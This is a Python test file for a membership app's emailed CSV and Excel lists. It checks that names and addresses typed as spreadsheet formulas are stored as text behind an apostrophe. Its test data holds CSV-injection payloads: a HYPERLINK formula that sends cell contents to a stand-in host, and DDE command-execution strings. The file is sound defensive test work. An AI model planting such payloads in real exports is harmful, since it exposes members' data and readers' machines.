"""A name or an address typed as a formula reaches every member of the group in the CSV
list: a spreadsheet must show it as text, never run it. Every cell that would start a
formula (= + - @, a tab or a carriage return) begins with an apostrophe instead; phone
numbers keep their + and country code behind it. The Excel file holds only text cells.
The email itself and the vCard show what the member typed."""

from __future__ import annotations

import csv
import io

import vobject

from members.models import Person

from .conftest import join, list_emails, xlsx_cells

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = {
    "Mette Holm": '=HYPERLINK("http://evil.example/?leak="&A3&C3,"Open the list")',
    "Jonas Berg": "=cmd|' /C calc'!A0",
    "Ingrid Lund": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Freja Christensen": "-2+3+cmd|' /C calc'!A0",
}


def test_cells_that_would_start_a_formula_begin_with_an_apostrophe(
    alstrom, secretariat, send_lists, mailoutbox
):
    people = {name: join(name, alstrom, secretariat) for name in [*HOSTILE_NAMES, "Aud Hansen"]}
    for name, hostile in HOSTILE_NAMES.items():
        Person.objects.filter(pk=people[name].pk).update(full_name=hostile)
    # The address cell starts with the street.
    Person.objects.filter(pk=people["Aud Hansen"].pk).update(street_address="\t=1+1")
    send_lists()

    mails = list_emails(mailoutbox)
    assert len(mails) == 5
    for mail in mails:
        heading, *rows = list(csv.reader(io.StringIO(mail.attachment(".csv"))))
        assert len(rows) == 5
        for row in [heading, *rows]:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), cell
        names = {row[0] for row in rows}
        assert names == {"'" + hostile for hostile in HOSTILE_NAMES.values()} | {"Aud Hansen"}
        by_name = {row[0]: row for row in rows}
        assert by_name["Aud Hansen"][3] == "'\t=1+1, 5003 Bergen, Norway"
        assert by_name["'=cmd|' /C calc'!A0"][4] == "'+45 31 23 45 67"
        assert by_name["Aud Hansen"][4] == "'+47 41 23 45 67"

        # In the Excel file every cell is a text cell by its type, never a formula: it shows
        # what the member typed, marked as text typed after an apostrophe is, so that it
        # stays text when a reader edits it.
        cells = {cell.value: cell for row in xlsx_cells(mail) for cell in row if cell.value}
        for hostile in [*HOSTILE_NAMES.values(), "\t=1+1, 5003 Bergen, Norway"]:
            assert cells[hostile].data_type == "s"
            assert cells[hostile].quotePrefix
        assert all(cell.data_type == "s" for cell in cells.values())
        assert not cells["Aud Hansen"].quotePrefix

        # Only the spreadsheets need the apostrophe: the email and the cards show the names
        # as typed (the HTML part escaped for the mail program, as always).
        assert all(hostile in mail.text() for hostile in HOSTILE_NAMES.values())
        cards = list(vobject.readComponents(mail.attachment(".vcf")))
        assert {card.fn.value for card in cards} >= set(HOSTILE_NAMES.values())
